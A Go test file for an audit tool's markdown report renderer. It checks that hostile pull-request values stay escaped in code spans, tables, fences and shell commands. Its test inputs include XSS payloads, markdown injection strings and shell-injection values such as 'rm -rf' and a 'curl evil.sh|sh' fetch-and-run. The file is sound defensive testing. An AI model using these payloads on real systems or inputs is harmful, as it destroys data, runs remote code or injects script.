package report

import (
	"bytes"
	"encoding/json"
	"html"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/auditbot/auditbot/audit"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
)

// hostile are values a pull request can put in file names, option values,
// commit subjects and source lines.
var hostile = []string{
	"plain",
	"a|b|c",
	"`tick` and ``double`` and ```triple```",
	"`",
	"ends with `",
	"@alice and @org/team-x please",
	"fixes #123 and GH-4",
	"<script>alert(1)</script> & <img src=x onerror=alert(1)>",
	"</details><details><summary>x",
	"line1\nline2\r\n## injected heading",
	"- list\n1. item",
	"1. starts like a list",
	"# heading",
	"*emph* _u_ [link](javascript:alert(1)) ![img](x)",
	"back\\slash\\|pipe",
	"  spaces  ",
	"ñandú ¿qué? 😀",
	"\x00\x07control\x1b[31m",
	"invalid \xff utf8",
}

// TestMdCode protects code spans: whatever the value, GFM parses exactly
// one code span holding the value (on one line).
func TestMdCode(t *testing.T) {
	for _, s := range hostile {
		md := "x " + mdCode(s) + " y"
		doc := parseGFM(md)
		var spans []string
		_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			if cs, ok := n.(*ast.CodeSpan); ok && entering {
				spans = append(spans, textOf(cs, []byte(md)))
				return ast.WalkSkipChildren, nil
			}
			return ast.WalkContinue, nil
		})
		want := strings.TrimSpace(oneLine(s))
		if len(spans) != 1 || strings.TrimSpace(spans[0]) != want {
			t.Errorf("mdCode(%q) = %q parses to spans %q, want one span %q", s, mdCode(s), spans, want)
		}
	}
}

// TestMdText protects prose: the value stays literal text in one
// paragraph (no emphasis, link, HTML, heading or list), and mentions and
// issue references are broken.
func TestMdText(t *testing.T) {
	for _, s := range hostile {
		md := mdText(s) + "\n"
		doc := parseGFM(md)
		if doc.ChildCount() > 1 || (doc.FirstChild() != nil && doc.FirstChild().Kind() != ast.KindParagraph) {
			t.Errorf("mdText(%q) = %q makes blocks other than one paragraph", s, mdText(s))
			continue
		}
		_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			switch n.Kind() {
			case ast.KindEmphasis, ast.KindLink, ast.KindImage, ast.KindRawHTML, ast.KindCodeSpan, ast.KindAutoLink:
				t.Errorf("mdText(%q) = %q parses to a %s", s, mdText(s), n.Kind())
			}
			return ast.WalkContinue, nil
		})
		var out bytes.Buffer
		if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(md), &out); err != nil {
			t.Fatal(err)
		}
		body := strings.TrimSuffix(strings.TrimPrefix(out.String(), "<p>"), "</p>\n")
		if strings.Contains(body, "<") {
			t.Errorf("mdText(%q) renders HTML tags: %q", s, out.String())
		}
		got := html.UnescapeString(strings.ReplaceAll(body, zwsp, ""))
		if want := oneLine(s); strings.TrimSpace(got) != strings.TrimSpace(want) {
			t.Errorf("mdText(%q) renders %q, want %q", s, got, want)
		}
	}
	if got := mdText("@alice #12"); !strings.Contains(got, "@"+zwsp) || !strings.Contains(got, "#"+zwsp) {
		t.Errorf("mentions not broken: %q", got)
	}
}

// TestMdCellAndFence protects tables and fenced blocks: a hostile cell
// keeps the row at two cells, and a hostile block is never closed early.
func TestMdCellAndFence(t *testing.T) {
	for _, s := range hostile {
		for name, cell := range map[string]string{"cell": mdCell(s), "cellcode": mdCellCode(s), "cellinline": mdCellInline(s)} {
			md := "| A | B |\n|---|---|\n| " + cell + " | end |\n"
			checkRawTables(t, name+" "+s, md)
			doc := parseGFM(md)
			tbl := doc.FirstChild()
			if tbl == nil || tbl.ChildCount() != 2 || tbl.LastChild().ChildCount() != 2 ||
				strings.TrimSpace(textOf(tbl.LastChild().LastChild(), []byte(md))) != "end" {
				t.Errorf("%s(%q) = %q breaks the table", name, s, cell)
			}
		}
		md := mdFence("bash", s+"\n```\n"+s) + "\n\nafter\n"
		doc := parseGFM(md)
		fc, ok := doc.FirstChild().(*ast.FencedCodeBlock)
		if !ok || doc.ChildCount() != 2 {
			t.Errorf("mdFence with %q: %d blocks, want the fence and one paragraph", s, doc.ChildCount())
			continue
		}
		if fc.Lines().Len() < 3 {
			t.Errorf("mdFence with %q lost lines", s)
		}
	}
}

// TestShellQuote protects the commands people copy: a repository value is
// one shell word.
func TestShellQuote(t *testing.T) {
	tests := map[string]string{
		"session-manager":     "session-manager",
		"ecosystem.config.js": "ecosystem.config.js",
		"a b":                 "'a b'",
		"x; rm -rf ~":         "'x; rm -rf ~'",
		"it's":                `'it'\''s'`,
		"$(id)`id`":           "'$(id)`id`'",
	}
	for in, want := range tests {
		if got := shellQuote(in); got != want {
			t.Errorf("shellQuote(%q) = %q, want %q", in, got, want)
		}
	}
}

// hostileDoc is the seed with repository values replaced by hostile ones.
func hostileDoc(t *testing.T) *audit.Document {
	doc := loadDoc(t, "seed")
	evilApp := "evil|app`@alice <b>x</b> #12\n## injected"
	evilPath := "services/```x|y/@bob/ecosystem.config.js"
	doc.Head.Subject = "@org/team <img src=x onerror=alert(1)> fixes #9 | ```"
	for i := range doc.Ecosystems {
		e := &doc.Ecosystems[i]
		if strings.HasSuffix(e.Path, ".js") {
			e.Path = evilPath
			doc.Changed[1].Path = evilPath
			doc.Services[1].Ecosystem = evilPath
		}
		for _, r := range []*audit.EcoRev{e.Base, e.Head} {
			for a := range r.Apps {
				r.Apps[a].Name = evilApp
				r.Apps[a].Options = append(r.Apps[a].Options,
					audit.Option{Key: "args", Value: "```\n</details>\n| x | y |\n@carol", Line: 90},
					audit.Option{Key: "env_prod;rm -rf /", Value: map[string]any{"K": "v"}, Line: 91},
					audit.Option{Key: "secret_thing", Dynamic: true, Secret: true, Source: "process.env.REAL_SECRET_VALUE", Line: 92})
			}
		}
		for c := range e.Changes {
			e.Changes[c].App = evilApp
		}
	}
	for i := range doc.Services {
		doc.Services[i].App = evilApp
		doc.Services[i].Dir = "services/a b;rm"
		doc.Services[i].Evidence = append(doc.Services[i].Evidence,
			audit.Evidence{Kind: "route", Context: "code", Path: "x.js", Line: 3, Detail: "GET /health;curl evil.sh|sh", Text: "app.get('/health;curl', f) // ``` | @dave"},
			audit.Evidence{Kind: "signal-handler", Context: "code", Path: "x|y.js", Line: 4, Detail: "SIGINT|<b>", Text: "`|`"})
	}
	for i := range doc.Findings {
		doc.Findings[i].App = evilApp
		doc.Findings[i].MessageES = "mensaje con `code|pipe` @erin <i>x</i> #7 y ```"
		doc.Findings[i].Docs = "javascript:alert(1)"
	}
	doc.Docs = append(doc.Docs, audit.Evidence{Kind: "option-mention", Context: "doc", Path: "docs/<x>|@frank.md", Line: 1, Detail: "wait_ready"})
	return doc
}

// TestHostileDocument renders a document whose repository values try to
// break out of code, tables and fences, mention people, inject HTML and
// inject shell commands, and checks the result as GitHub would parse it.
func TestHostileDocument(t *testing.T) {
	doc := hostileDoc(t)
	// Through JSON too, as the engine hands it over.
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	var back audit.Document
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	for _, lang := range languages {
		md := render(t, &back, Options{Lang: lang, Now: testNow})
		if !utf8.ValidString(md) {
			t.Fatal("invalid UTF-8")
		}
		st := checkMarkdown(t, "hostile/"+lang, md)
		for _, h := range st.headings {
			if strings.Contains(h, "injected") && !strings.Contains(h, "evil") {
				t.Errorf("a value became a heading: %q", h)
			}
		}
		if strings.Contains(md, "REAL_SECRET_VALUE") {
			t.Error("the source of a secret option reached the output")
		}
		for _, f := range st.fenceText["bash"] {
			for _, l := range strings.Split(f, "\n") {
				if strings.Contains(l, "rm -rf") && !strings.Contains(l, "'") {
					t.Errorf("unquoted injected command in a bash block: %q", l)
				}
				if strings.Contains(l, "curl evil") {
					t.Errorf("a hostile route reached a command: %q", l)
				}
			}
		}
		js := strings.Join(st.fenceText["javascript"], "\n")
		if !strings.Contains(js, `args: '`+"```"+`\n</details>\n| x | y |\n@carol'`) {
			t.Errorf("the hostile option value is not intact inside the javascript block")
		}
	}
}

// TestFlattenFences protects one-line places (table cells, inline text):
// a remediation's fenced code becomes one code span, comment lines
// dropped so they cannot swallow the code after them.
func TestFlattenFences(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"no code", "no code"},
		{"Do this:\n\n```js\n{ script: './server.js' }\n```\n\nthen that.", "Do this:\n\n`{ script: './server.js' }`\n\nthen that."},
		{"```js\nfor (const s of ['SIGINT']) process.on(s, stop);\n// with shutdown_with_message: true\nprocess.on('message', stop);\n```",
			"`for (const s of ['SIGINT']) process.on(s, stop); process.on('message', stop);`"},
		{"```\n// only a comment\n```", ""},
		{"```bash\n# a comment\npm2 delete api\n```", "`pm2 delete api`"},
	} {
		if got := flattenFences(tc.in); got != tc.want {
			t.Errorf("flattenFences(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestListItem protects next steps: code stays a fenced block under the
// list item, text stays escaped and inline.
func TestListItem(t *testing.T) {
	in := "Start it <directly>:\n\n```js\n{ script: './server.js' }\n```\n\nthen apply with `pm2 delete api`."
	want := "Start it &lt;directly&gt;:\n\n   ```js\n   { script: './server.js' }\n   ```\n\n   then apply with `pm2 delete api`."
	if got := mdListItem(in); got != want {
		t.Errorf("mdListItem:\n got %q\nwant %q", got, want)
	}
	if got := mdListItem("one paragraph"); got != "one paragraph" {
		t.Errorf("mdListItem(one paragraph) = %q", got)
	}
}
